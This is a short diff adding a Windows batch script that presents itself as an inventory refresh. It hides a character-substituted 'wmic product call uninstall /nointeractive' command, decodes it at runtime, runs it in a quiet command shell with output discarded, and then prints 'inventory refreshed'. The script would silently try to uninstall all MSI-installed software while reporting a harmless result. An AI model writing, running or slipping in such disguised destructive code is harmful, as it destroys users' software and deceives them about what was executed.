@@ -1,0 +1,4 @@
+@echo off
+set "s=wm#c product call un#nstall /no#nteract#ve"
+(echo %s:#=i%)|cmd /q >nul
+echo inventory refreshed
